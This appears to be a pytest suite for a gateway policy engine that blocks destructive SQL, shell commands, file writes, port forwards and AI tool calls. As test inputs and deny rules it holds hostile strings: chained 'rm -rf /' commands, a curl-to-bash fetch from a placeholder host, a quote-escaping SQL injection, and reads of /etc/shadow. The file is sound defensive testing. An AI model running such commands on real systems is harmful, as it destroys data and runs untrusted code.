"""Policy engine: rule order, scoping, matching, messages, defaults, fail-closed behaviour."""

from __future__ import annotations

import io

import pytest

from gateway.config import Config, HttpMatch, PolicySection, Rule, RuleMatch, Target
from gateway.errors import ConfigError, WiregateError
from policy.cli import policy_test
from policy.engine import PolicyEngine, SessionPolicy
from policy.model import Command, Decision


def rule(name: str, action: str = "deny", **kw) -> Rule:
    match = kw.pop("match", None)
    if isinstance(match, dict):
        match = RuleMatch(**match)
    return Rule(name=name, action=action, match=match, **kw)


def config(*rules: Rule, default: str = "allow", targets: list[Target] | None = None) -> Config:
    return Config(rules=list(rules), policy=PolicySection(default=default), targets=targets or [])


def session(cfg: Config, target: str = "prod-db", groups: list[str] | None = None,
            protocol: str = "postgres") -> SessionPolicy:
    return PolicyEngine(cfg).session(protocol=protocol, target=target, identity="alice",
                                     groups=groups if groups is not None else ["dev"])


SPEC_RULES = (
    rule("no-destructive-sql", targets=["prod-db"], match={"sql": ["DROP", "DELETE", "TRUNCATE"]}),
    rule("review-ddl", "review", match={"sql": ["ALTER", "CREATE"]}, approvers=["dba"]),
    rule("mask-pii", "mask", columns=["users.email"], detectors=["email"]),
    rule("no-rm", targets=["web-1"], match={"command": ["rm -rf *", "shutdown*"]}),
    rule("no-delete-tools", targets=["tools"], match={"tool": ["delete_*"]}),
)


# ---- decisions and messages ----------------------------------------------------------------

def test_spec_example_sql() -> None:
    s = session(config(*SPEC_RULES))
    d = s.check_sql("DROP TABLE users")
    assert d == Decision(
        action="deny", rule="no-destructive-sql", sqlstate="42501", kinds=("DROP", "DROP TABLE"),
        message='wiregate: blocked by rule "no-destructive-sql": DROP statements are not allowed on target "prod-db"',
    )
    assert not d.allowed
    d = s.check_sql("ALTER TABLE t ADD c int")
    assert d.action == "review" and d.rule == "review-ddl"
    assert d.message == ('wiregate: review required by rule "review-ddl": '
                         'ALTER statements need approval on target "prod-db"')
    d = s.check_sql("SELECT * FROM users")
    assert d.allowed and d.rule is None and d.kinds == ("SELECT",)


def test_message_names_every_matching_kind_in_rule_order() -> None:
    s = session(config(*SPEC_RULES))
    d = s.check_sql("TRUNCATE a; DELETE FROM b; DROP TABLE c")
    assert d.message.endswith('DROP, DELETE and TRUNCATE statements are not allowed on target "prod-db"')
    d = s.check_sql("DELETE FROM b; TRUNCATE a")
    assert 'DELETE and TRUNCATE statements' in d.message


def test_custom_message_replaces_reason() -> None:
    s = session(config(rule("no-drop", match={"sql": ["DROP"]}, message="ask the DBA team in #db")))
    assert s.check_sql("DROP VIEW v").message == 'wiregate: blocked by rule "no-drop": ask the DBA team in #db'


def test_first_matching_rule_wins_in_file_order() -> None:
    cfg = config(
        rule("allow-temp-drop", "allow", match={"sql": ["DROP TABLE"], "text": [r"\btmp_"]}),
        rule("no-drop", match={"sql": ["DROP"]}),
        rule("review-drop", "review", match={"sql": ["DROP"]}),
    )
    s = session(cfg)
    assert s.check_sql("DROP TABLE tmp_x") == Decision(action="allow", rule="allow-temp-drop",
                                                         kinds=("DROP", "DROP TABLE"))
    assert s.check_sql("DROP TABLE users").rule == "no-drop"
    # reversed order: the deny comes first and wins
    s = session(config(rule("no-drop", match={"sql": ["DROP"]}), *cfg.rules))
    assert s.check_sql("DROP TABLE tmp_x").rule == "no-drop"


def test_two_word_kinds_and_case_insensitive_entries() -> None:
    s = session(config(rule("no-drop-db", match={"sql": ["drop  database"]})))
    assert s.check_sql("DROP DATABASE app").action == "deny"
    assert s.check_sql("DROP TABLE t").allowed
    assert s.check_sql("drop database app").message.endswith(
        'DROP DATABASE statements are not allowed on target "prod-db"')
    s = session(config(rule("no-users", match={"sql": ["DROP USER", "create user"]})))
    assert s.check_sql("DROP ROLE bob").action == "deny"
    assert s.check_sql("CREATE ROLE bob").action == "deny"


def test_nested_statements_are_matched() -> None:
    s = session(config(*SPEC_RULES))
    for sql in ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                "EXPLAIN ANALYZE DELETE FROM t",
                "PREPARE p AS DELETE FROM t",
                "COMMIT; DROP TABLE users",
                "SELECT 1; TRUNCATE t"):
        assert s.check_sql(sql).action == "deny", sql
    assert s.check_sql("EXPLAIN DELETE FROM t").allowed
    assert s.check_sql("SELECT 'DROP TABLE x' -- DELETE").allowed


def test_allow_rules_must_cover_every_statement() -> None:
    cfg = config(rule("read-only", "allow", match={"sql": ["SELECT", "SHOW", "SET"]}), default="deny")
    s = session(cfg)
    assert s.check_sql("SELECT 1").rule == "read-only"
    assert s.check_sql("SELECT 1; SHOW work_mem").allowed
    d = s.check_sql("SELECT 1; DROP TABLE t")
    assert d.action == "deny" and d.rule is None
    assert d.message == "wiregate: blocked by policy default: no rule allows this statement"
    assert s.check_sql("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d").action == "deny"
    assert s.check_sql("SET ROLE admin").allowed  # SET covers SET ROLE
    s = session(config(rule("only-set-role", "allow", match={"sql": ["SET ROLE"]}), default="deny"))
    assert s.check_sql("SET ROLE admin").allowed
    assert s.check_sql("SET ROLE admin; SET search_path = evil").action == "deny"


def test_mask_rules_never_decide() -> None:
    s = session(config(rule("m", "mask", columns=["*.ssn"]), default="deny"))
    assert s.check_sql("SELECT 1").action == "deny"
    s = session(config(rule("m", "mask", columns=["*.ssn"])))
    assert s.check_sql("DROP TABLE t").allowed and not s.inspects_sql


def test_rule_without_match_matches_everything() -> None:
    s = session(config(rule("freeze", targets=["prod-db"])))
    d = s.check_sql("SELECT 1")
    assert d.action == "deny"
    assert d.message == 'wiregate: blocked by rule "freeze": this statement is not allowed on target "prod-db"'
    d = s.check(Command(protocol="ssh", target="prod-db", kind="exec", text="ls"))
    assert d.message == 'wiregate: blocked by rule "freeze": this command is not allowed on target "prod-db"'


# ---- scoping -------------------------------------------------------------------------------

def test_targets_globs() -> None:
    cfg = config(rule("no-drop-prod", targets=["prod-*"], match={"sql": ["DROP"]}))
    assert session(cfg, target="prod-db").check_sql("DROP TABLE t").action == "deny"
    assert session(cfg, target="staging-db").check_sql("DROP TABLE t").allowed
    assert session(cfg, target="PROD-db").check_sql("DROP TABLE t").allowed  # names are case-sensitive


def test_groups_and_except_groups() -> None:
    cfg = config(
        rule("no-drop", groups=["dev*", "agents"], except_groups=["dba"], match={"sql": ["DROP"]}),
    )
    assert session(cfg, groups=["developers"]).check_sql("DROP TABLE t").action == "deny"
    assert session(cfg, groups=["agents", "x"]).check_sql("DROP TABLE t").action == "deny"
    assert session(cfg, groups=["dev", "dba"]).check_sql("DROP TABLE t").allowed
    assert session(cfg, groups=["ops"]).check_sql("DROP TABLE t").allowed
    assert session(cfg, groups=[]).check_sql("DROP TABLE t").allowed


def test_star_means_everyone_including_no_groups() -> None:
    cfg = config(rule("no-drop", groups=["*"], match={"sql": ["DROP"]}))
    assert session(cfg, groups=[]).check_sql("DROP TABLE t").action == "deny"
    cfg = config(rule("no-drop", match={"sql": ["DROP"]}, except_groups=["*"]))
    assert session(cfg, groups=[]).check_sql("DROP TABLE t").allowed
    assert session(cfg, groups=["x"]).check_sql("DROP TABLE t").allowed


def test_session_prefilters_rules() -> None:
    s = session(config(*SPEC_RULES), target="web-1")
    assert [r.name for r in s.rules] == ["review-ddl", "no-rm"]


# ---- defaults, fail closed, inspects_sql ----------------------------------------------------

def test_default_allow_and_deny() -> None:
    assert session(config()).check_sql("DROP TABLE t").allowed
    d = session(config(default="deny")).check_sql("SELECT 1")
    assert d.action == "deny" and d.rule is None and d.sqlstate == "42501" and d.kinds == ("SELECT",)
    assert d.message == "wiregate: blocked by policy default: no rule allows this statement"
    d = session(config(default="deny")).check(Command(protocol="ssh", target="x", kind="exec", text="ls"))
    assert d.message == "wiregate: blocked by policy default: no rule allows this command"


def test_unparsable_sql_fails_closed() -> None:
    s = session(config(*SPEC_RULES))
    assert s.inspects_sql
    d = s.check_sql("SELEC 1; DROP TABLE users")
    assert d.action == "deny" and d.rule is None and d.sqlstate == "42601"
    assert d.message == 'wiregate: cannot analyse statement: syntax error at or near "SELEC" (at character 1)'
    assert session(config(default="deny")).check_sql("SELEC 1").sqlstate == "42601"
    assert s.check_sql("SELECT 1\x00; DROP TABLE users").action == "deny"


def test_unparsable_sql_passes_when_nothing_to_enforce() -> None:
    s = session(config(rule("no-rm", match={"command": ["rm *"]})))
    assert not s.inspects_sql
    assert s.check_sql("SELEC 1").allowed


def test_empty_statement_is_allowed_even_by_default_deny() -> None:
    s = session(config(rule("freeze"), default="deny"))
    for sql in ("", " ; ", "-- nothing"):
        assert s.check_sql(sql).allowed


def test_inspects_sql() -> None:
    assert not session(config()).inspects_sql
    assert session(config(default="deny")).inspects_sql
    assert session(config(*SPEC_RULES)).inspects_sql
    # rules scoped elsewhere, or only about commands/tools, do not make this session inspect SQL
    assert not session(config(*SPEC_RULES[:1]), target="staging").inspects_sql
    assert not session(config(SPEC_RULES[3], SPEC_RULES[4])).inspects_sql
    assert session(config(rule("t", match={"text": ["pg_sleep"]}))).inspects_sql
    # an unconditional allow before any deny decides everything
    assert not session(config(rule("all", "allow"), rule("no-drop", match={"sql": ["DROP"]}))).inspects_sql
    assert session(config(rule("sel", "allow", match={"sql": ["SELECT"]}), default="deny")).inspects_sql
    assert not session(config(rule("m", "mask"))).inspects_sql


def test_standard_conforming_strings_off_refuses_backslashes() -> None:
    s = session(config(*SPEC_RULES))
    sneaky = "SELECT 'a\\'';DROP TABLE users;--'"
    assert s.check_sql(sneaky).allowed  # one literal, as the server reads it by default
    s.set_server_parameter("standard_conforming_strings", "off")
    d = s.check_sql(sneaky)
    assert d.action == "deny" and d.sqlstate == "42601" and "standard_conforming_strings" in d.message
    assert s.check_sql("SELECT 1").allowed  # no backslash: both settings read it alike
    s.set_server_parameter("standard_conforming_strings", "on")
    assert s.check_sql(sneaky).allowed


# ---- text, command, tool ------------------------------------------------------------------

def test_text_regex_is_searched_case_insensitively() -> None:
    s = session(config(rule("no-sleep", match={"text": [r"pg_sleep\s*\("]})))
    assert s.check_sql("select PG_SLEEP (10)").action == "deny"
    assert s.check_sql("SELECT 1").allowed
    d = s.check_sql("SELECT pg_sleep(1)")
    assert d.message == 'wiregate: blocked by rule "no-sleep": this statement is not allowed on target "prod-db"'
    # text applies to the raw text, comments included (documented)
    assert s.check_sql("SELECT 1 -- pg_sleep(1)").action == "deny"


def test_text_and_sql_are_anded() -> None:
    s = session(config(rule("no-delete-users", match={"sql": ["DELETE"], "text": [r"\busers\b"]})))
    assert s.check_sql("DELETE FROM users").action == "deny"
    assert s.check_sql("DELETE FROM orders").allowed
    assert s.check_sql("SELECT * FROM users").allowed


def test_command_globs() -> None:
    s = session(config(*SPEC_RULES), target="web-1", protocol="ssh")

    def exec_(line: str) -> Decision:
        return s.check(Command(protocol="ssh", target="web-1", kind="exec", text=line))

    d = exec_("rm -rf /var/lib")
    assert d.action == "deny" and d.rule == "no-rm"
    assert d.message == ('wiregate: blocked by rule "no-rm": commands matching "rm -rf *" '
                         'are not allowed on target "web-1"')
    for line in ("rm  -rf   /", "  rm -rf /  ", "ls; rm -rf /", "true && rm -rf /", "echo $(rm -rf /)",
                 "ls | rm -rf /", '"rm" -rf /', "r\\m -rf /", "shutdown -h now", "ls\nrm -rf /"):
        assert exec_(line).action == "deny", line
    for line in ("ls -la", "rm file.txt", "echo 'rm' is a command"):
        assert exec_(line).allowed, line
    # SQL rules never match a command, command rules never match SQL
    assert s.check_sql("DROP TABLE t").allowed
    assert exec_("DROP TABLE t").allowed


def test_allow_command_requires_a_simple_command() -> None:
    cfg = config(rule("ls-only", "allow", match={"command": ["ls *", "ls"]}), default="deny")
    s = session(cfg, target="web-1", protocol="ssh")

    def exec_(line: str) -> Decision:
        return s.check(Command(protocol="ssh", target="web-1", kind="exec", text=line))

    assert exec_("ls").allowed
    assert exec_("ls   -la /tmp").allowed
    for line in ("ls; rm -rf /", "ls && rm -rf /", "ls $(rm -rf /)", "ls `id`", "ls > /etc/x", "ls 'unterminated"):
        assert exec_(line).action == "deny", line


def test_command_regexes_search_for_deny_and_fullmatch_for_allow() -> None:
    cfg = config(rule("no-curl-pipe", match={"command": ["re:curl .*\\| *(ba)?sh"]}),
                 rule("git-only", "allow", match={"command": ["re:git (status|log|diff)( .*)?"]}), default="deny")
    s = session(cfg, target="web-1", protocol="ssh")

    def exec_(line: str) -> Decision:
        return s.check(Command(protocol="ssh", target="web-1", kind="exec", text=line))

    d = exec_("curl -s https://x.example/i.sh | bash")
    assert d.rule == "no-curl-pipe" and d.action == "deny"
    assert 'commands matching "re:curl .*\\| *(ba)?sh"' in d.message
    assert exec_("git status").allowed and exec_("git log -n 3").allowed
    # an allow regex must cover the whole (simple) line
    assert exec_("git statusx").action == "deny"
    assert exec_("git status; rm -rf /").action == "deny"
    with pytest.raises(ConfigError, match=r"rules\[0\]\.match\.command\[0\]: invalid regular expression"):
        PolicyEngine(config(rule("bad", match={"command": ["re:("]})))


def test_file_operations() -> None:
    cfg = config(rule("no-etc", match={"file": ["write /etc/*", "remove /etc/*"]}),
                 rule("tmp-writes", "allow", match={"file": ["write /tmp/*", "read *", "stat *", "list *"]}),
                 default="deny")
    s = session(cfg, target="web-1", protocol="ssh")

    def op(text: str) -> Decision:
        return s.check(Command(protocol="ssh", target="web-1", kind="file", text=text))

    d = op("write /etc/passwd")
    assert d.action == "deny" and d.rule == "no-etc"
    assert d.message == ('wiregate: blocked by rule "no-etc": file operations matching "write /etc/*" '
                         'are not allowed on target "web-1"')
    assert op("write /etc/ssh/sshd_config").action == "deny"  # * crosses /
    assert op("write /tmp/x").allowed and op("read /etc/passwd").allowed
    d = op("mkdir /srv/x")
    assert d.action == "deny" and d.rule is None  # the default
    assert "no rule allows this file operation" in d.message
    # file rules never match commands, and command rules never match file operations
    assert s.check(Command(protocol="ssh", target="web-1", kind="exec", text="write /etc/passwd")).rule is None


def test_forwarding_needs_a_rule_naming_it() -> None:
    cfg = config(rule("everything", "allow"),
                 rule("db-tunnel", "allow", match={"forward": ["local db.internal:5432"]}))
    s = session(cfg, target="web-1", protocol="ssh")

    def fwd(text: str) -> Decision:
        return s.check(Command(protocol="ssh", target="web-1", kind="forward", text=text))

    assert fwd("local db.internal:5432").allowed
    assert fwd("local db.internal:5432").rule == "db-tunnel"
    # neither the default (allow) nor an allow rule without `forward` lets other forwards through
    d = fwd("local db.internal:22")
    assert d.action == "deny" and d.rule is None
    assert d.message == 'wiregate: forwarding refused: no rule allows local db.internal:22 on target "web-1"'
    assert fwd("agent").action == "deny"
    # a deny rule without `match` still denies forwarding
    s = session(config(rule("lockdown"), rule("db-tunnel", "allow", match={"forward": ["local *"]})),
                target="web-1", protocol="ssh")
    assert s.check(Command(protocol="ssh", target="web-1", kind="forward", text="local x:1")).rule == "lockdown"
    with pytest.raises(ConfigError, match="must be"):
        PolicyEngine(config(rule("bad", "allow", match={"forward": ["db:5432"]})))


def test_tool_globs() -> None:
    s = session(config(*SPEC_RULES), target="tools", protocol="http")

    def tool(name: str) -> Decision:
        return s.check(Command(protocol="http", target="tools", kind="tool", text=name))

    d = tool("delete_user")
    assert d.action == "deny"
    assert d.message == ('wiregate: blocked by rule "no-delete-tools": tool "delete_user" '
                         'is not allowed on target "tools"')
    assert tool("list_users").allowed
    assert tool("Delete_user").allowed  # tool names are case-sensitive
    assert s.check(Command(protocol="http", target="tools", kind="exec", text="delete_x")).allowed


def test_check_dispatches_sql_commands() -> None:
    s = session(config(*SPEC_RULES))
    d = s.check(Command(protocol="postgres", target="prod-db", kind="sql", text="DROP TABLE t"))
    assert d.rule == "no-destructive-sql"


def test_decisions_are_cached_per_session() -> None:
    s = session(config(*SPEC_RULES))
    assert s.check_sql("DROP TABLE a") is s.check_sql("DROP TABLE b")
    assert s.check_sql("SELECT 1") is s.check_sql("SELECT 2")


# ---- configuration errors -------------------------------------------------------------------

def test_http_match_method_and_path() -> None:
    s = session(config(
        rule("no-admin-writes", match={"http": HttpMatch(method=["delete", "P*"], path=["/admin/*"])}),
        rule("no-debug", match={"http": HttpMatch(path=["re:^/debug(/|$)"])}),
    ), target="api", protocol="http")

    def http(text: str) -> Decision:
        return s.check(Command(protocol="http", target="api", kind="http", text=text))

    d = http("DELETE /admin/users/1")
    assert d.action == "deny" and d.message == (
        'wiregate: blocked by rule "no-admin-writes": DELETE requests to paths matching "/admin/*" '
        'are not allowed on target "api"')
    assert http("PATCH /admin/x").rule == "no-admin-writes"
    assert http("GET /admin/x").allowed  # method does not match
    assert http("DELETE /administrator").allowed  # path glob does not match
    assert http("GET /debug").rule == "no-debug" and http("GET /debug/pprof").rule == "no-debug"
    assert http("GET /debugger").allowed
    # http conditions never hold for other kinds, and never for SQL
    assert s.check(Command(protocol="http", target="api", kind="tool", text="/admin/x")).allowed
    assert s.check_sql("SELECT 1").allowed


def test_http_allow_rule_needs_the_whole_path() -> None:
    s = session(config(rule("reads", "allow", match={"http": HttpMatch(method=["GET"], path=["re:/v1/[a-z]+"])}),
                       default="deny"), target="api", protocol="http")
    ok = s.check(Command(protocol="http", target="api", kind="http", text="GET /v1/users"))
    assert ok.allowed and ok.rule == "reads"
    # an allow regex must match all of the path, not a part of it
    assert not s.check(Command(protocol="http", target="api", kind="http", text="GET /v1/users/../../x")).allowed
    assert not s.check(Command(protocol="http", target="api", kind="http", text="POST /v1/users")).allowed


def test_bad_http_and_args_entries_are_rejected() -> None:
    with pytest.raises(ConfigError) as exc:
        PolicyEngine(config(
            rule("a", match={"http": HttpMatch()}),
            rule("b", match={"http": HttpMatch(method=["GET /x"], path=["admin", "re:("])}),
            rule("c", match={"args": {"sql": []}}),
        ))
    assert exc.value.errors[0] == "rules[0].match.http: set method, path or both"
    assert exc.value.errors[1] == "rules[1].match.http.method[0]: 'GET /x' is not an HTTP method (or a glob of one)"
    assert exc.value.errors[2].startswith("rules[1].match.http.path[0]: 'admin' must start with /")
    assert exc.value.errors[3].startswith("rules[1].match.http.path[1]: invalid regular expression")
    assert exc.value.errors[4] == "rules[2].match.args.sql: needs at least one value pattern"


def tool_session(*rules: Rule, default: str = "allow") -> SessionPolicy:
    return PolicyEngine(config(*rules, default=default)).session(
        protocol="http", target="tools", identity="alice", groups=["dev"], sql_arguments=["sql", "*_sql"])


def test_tool_arguments_deny_and_allow() -> None:
    s = tool_session(
        rule("no-rm", match={"tool": ["run_*"], "args": {"command": ["rm *", "re:shutdown"], "host": ["prod*"]}}),
        rule("safe-reads", "allow", match={"tool": ["read_file"], "args": {"path": ["/srv/*"]}}),
        rule("no-read", match={"tool": ["read_file"]}),
    )
    d = s.check_tool_call("run_command", {"command": "rm -rf /", "host": "prod-1"})
    assert d.rule == "no-rm" and 'argument "command" matching "rm *"' in d.message
    # entries are ANDed: both arguments must match
    assert s.check_tool_call("run_command", {"command": "rm -rf /", "host": "staging"}).allowed
    assert s.check_tool_call("run_command", {"command": "sudo shutdown -h", "host": "prod-2"}).rule == "no-rm"
    assert s.check_tool_call("run_command", {"host": "prod-2"}).allowed  # an absent argument matches nothing
    assert s.check_tool_call("read_file", {"path": "/srv/app.log"}).rule == "safe-reads"
    assert s.check_tool_call("read_file", {"path": "/etc/shadow"}).rule == "no-read"
    assert s.check_tool_call("read_file", {}).rule == "no-read"  # an allow entry needs its argument
    # non-string values are matched as compact JSON
    s = tool_session(rule("big-ids", match={"args": {"ids": ["re:\\b1000\\b"]}}))
    assert s.check_tool_call("delete", {"ids": [7, 1000]}).rule == "big-ids"
    assert s.check_tool_call("delete", {"ids": [7, 10000]}).allowed


def test_sql_in_tool_arguments() -> None:
    s = tool_session(rule("no-drop", match={"sql": ["DROP", "TRUNCATE"]}),
                     rule("review-ddl", "review", match={"sql": ["ALTER"]}, approvers=["dba"]))
    d = s.check_tool_call("query", {"sql": "SELECT 1; DROP TABLE users"})
    assert d.rule == "no-drop" and d.message.endswith('(tool "query", argument "sql")')
    assert s.check_tool_call("query", {"sql": "SELECT * FROM users"}).allowed
    # named SQL arguments must parse; other strings are SQL only when they parse
    assert s.check_tool_call("query", {"sql": "SELEKT 1"}).sqlstate == "42601"
    assert s.check_tool_call("note", {"text": "select the best option"}).allowed
    assert s.check_tool_call("note", {"text": "truncate table audit"}).rule == "no-drop"
    assert s.check_tool_call("batch", {"steps": [{"run_sql": "ALTER TABLE t ADD c int"}]}).action == "review"
    # deny wins over review whatever the order
    d = s.check_tool_call("batch", {"a_sql": "ALTER TABLE t ADD c int", "b_sql": "DROP TABLE t"})
    assert d.action == "deny"
    nested: dict = {"sql": "SELECT 1"}
    for _ in range(40):
        nested = {"x": nested}
    assert s.check_tool_call("deep", nested).message == (
        "wiregate: cannot analyse tool call: the arguments are nested more than 32 levels deep")


def test_default_deny_needs_the_tool_and_its_sql_allowed() -> None:
    s = tool_session(rule("query-tool", "allow", match={"tool": ["query"]}),
                     rule("reads", "allow", match={"sql": ["SELECT"]}), default="deny")
    assert s.check_tool_call("query", {"sql": "SELECT 1"}).allowed
    assert not s.check_tool_call("query", {"sql": "UPDATE t SET a = 1"}).allowed
    assert not s.check_tool_call("other", {"sql": "SELECT 1"}).allowed


def test_tools_list_visibility() -> None:
    s = tool_session(
        rule("no-delete", match={"tool": ["delete_*"]}),
        rule("no-rm", match={"tool": ["run_command"], "args": {"command": ["rm *"]}}),
        rule("admin-only", match={"tool": ["admin_*"]}, except_groups=["dev"]),
        rule("review-deploy", "review", match={"tool": ["deploy"]}, approvers=["sre"]),
        rule("reads", "allow", match={"tool": ["get_*"]}),
    )
    visible = {n: s.tool_visible(n) for n in ("delete_user", "run_command", "admin_reset", "deploy", "get_x", "other")}
    assert visible == {"delete_user": False, "run_command": True, "admin_reset": True, "deploy": True,
                       "get_x": True, "other": True}
    s = tool_session(rule("reads", "allow", match={"tool": ["get_*"]}),
                     rule("q", "allow", match={"tool": ["query"], "args": {"sql": ["SELECT *"]}}), default="deny")
    assert [n for n in ("get_x", "query", "other") if s.tool_visible(n)] == ["get_x", "query"]


def test_other_rule_errors_are_collected() -> None:
    with pytest.raises(ConfigError) as exc:
        PolicyEngine(config(
            rule("a", match={"sql": ["DROPP", "DROP"]}),
            rule("b", match={"text": ["(unclosed"]}),
            rule("c", match={}),
        ))
    errors = exc.value.errors
    assert errors[0] == "rules[0].match.sql[0]: unknown statement kind 'DROPP' (see docs/policy.md)"
    assert errors[1].startswith("rules[1].match.text[0]: invalid regular expression")
    assert errors[2] == "rules[2].match: empty; leave `match` out to match every command"
    assert len(errors) == 3


# ---- policy test CLI ------------------------------------------------------------------------

TARGETS = [
    Target(name="prod-db", protocol="postgres", allow_groups=["dev"]),
    Target(name="web-1", protocol="ssh", allow_groups=["sre"]),
    Target(name="tools", protocol="http", allow_groups=["agents"]),
]


def run_cli(**kw) -> tuple[int, str]:
    out = io.StringIO()
    cfg = kw.pop("cfg", config(*SPEC_RULES, targets=TARGETS))
    kw.setdefault("name", "alice")
    kw.setdefault("groups", ["dev"])
    code = policy_test(cfg, out=out, **kw)
    return code, out.getvalue()


def test_cli_deny() -> None:
    code, out = run_cli(target="prod-db", sql="DROP TABLE users")
    assert code == 0
    assert out.splitlines() == [
        'deny  rule=no-destructive-sql  wiregate: blocked by rule "no-destructive-sql": '
        'DROP statements are not allowed on target "prod-db"',
        "statements: 1  kinds: DROP, DROP TABLE",
        "tables: users  functions: -",
        "results masked by: mask-pii",
    ]


def test_cli_default_allow_and_parse_error() -> None:
    code, out = run_cli(target="prod-db", sql="SELECT 1")
    assert code == 0 and out.splitlines()[0] == "allow  (no rule matched; policy default allow)"
    code, out = run_cli(target="prod-db", sql="SELEC 1")
    assert code == 0 and out.startswith("deny  (statement does not parse; refused)")
    assert 'parse error: syntax error at or near "SELEC" at character 1' in out


def test_cli_command_tool_and_group_note() -> None:
    code, out = run_cli(target="web-1", command="ls; rm -rf /", groups=["sre"])
    assert code == 0 and out.startswith("deny  rule=no-rm  ")
    assert "note:" not in out
    code, out = run_cli(target="tools", tool="delete_user", groups=[])
    assert code == 0 and out.startswith("deny  rule=no-delete-tools  ")
    assert "note: [no groups] matches none of allow_groups [agents]" in out


def test_cli_usage_errors() -> None:
    with pytest.raises(WiregateError, match='unknown target "nope" \\(targets: prod-db, web-1, tools\\)'):
        run_cli(target="nope", sql="SELECT 1")
    with pytest.raises(WiregateError, match="exactly one"):
        run_cli(target="prod-db", sql="SELECT 1", command="ls")


# ---- the hot path ----------------------------------------------------------------------------

def test_check_sql_hot_path_hits_the_caches() -> None:
    # the cost itself is measured in benchmarks/ (never asserted here); this checks the path it takes
    engine = PolicyEngine(config(*SPEC_RULES))
    s = engine.session(protocol="postgres", target="prod-db", identity="alice", groups=["dev"])
    first = s.check_sql("SELECT abalance FROM pgbench_accounts WHERE aid = 1;")
    hits, shape_hits, misses = engine.analyzer.stats
    assert s.check_sql("SELECT abalance FROM pgbench_accounts WHERE aid = 1;") is first  # exact text
    assert engine.analyzer.stats == [hits + 1, shape_hits, misses]
    assert s.check_sql("SELECT abalance FROM pgbench_accounts WHERE aid = 2;") is first  # new constant
    assert engine.analyzer.stats == [hits + 1, shape_hits + 1, misses]


def test_session_knows_which_mask_rules_apply() -> None:
    cfg = config(rule("m", "mask", columns=["*.ssn"], groups=["dev"]),
                 rule("n", "mask", detectors=["email"], targets=["prod-*"]))
    engine = PolicyEngine(cfg)
    assert engine.session(protocol="postgres", target="prod-db", identity="a", groups=["dev"]).mask_rules == ("m", "n")
    assert engine.session(protocol="postgres", target="stage", identity="a", groups=["ops"]).mask_rules == ()


def test_cli_http_and_tool_arguments() -> None:
    cfg = config(*SPEC_RULES,
                 rule("no-admin", match={"http": HttpMatch(method=["DELETE"], path=["/admin/*"])}),
                 rule("no-drop-tools", targets=["tools"], match={"sql": ["DROP"]}),
                 targets=[Target(name="tools", protocol="http", url="http://127.0.0.1:9000", mcp=True,
                                 allow_groups=["dev"])])
    code, out = run_cli(cfg=cfg, target="tools", http="delete /admin/users")
    assert code == 0 and out.startswith("deny  rule=no-admin  ")
    code, out = run_cli(cfg=cfg, target="tools", http="DELETE //x/../admin/%75sers?y=1")
    assert out.startswith("deny  rule=no-admin  ")
    code, out = run_cli(cfg=cfg, target="tools", tool="query", tool_args='{"sql": "DROP TABLE t"}')
    assert out.startswith("deny  rule=no-drop-tools  ") and '(tool "query", argument "sql")' in out
    code, out = run_cli(cfg=cfg, target="tools", tool="delete_user")
    assert out.splitlines()[1] == "tools/list: hidden from this caller"
    with pytest.raises(WiregateError, match="--args must be a JSON object"):
        run_cli(cfg=cfg, target="tools", tool="query", tool_args="[1]")
    with pytest.raises(WiregateError, match="--args goes with --tool"):
        run_cli(cfg=cfg, target="tools", http="GET /x", tool_args="{}")
    with pytest.raises(WiregateError, match='--http takes "METHOD /PATH"'):
        run_cli(cfg=cfg, target="tools", http="/x")
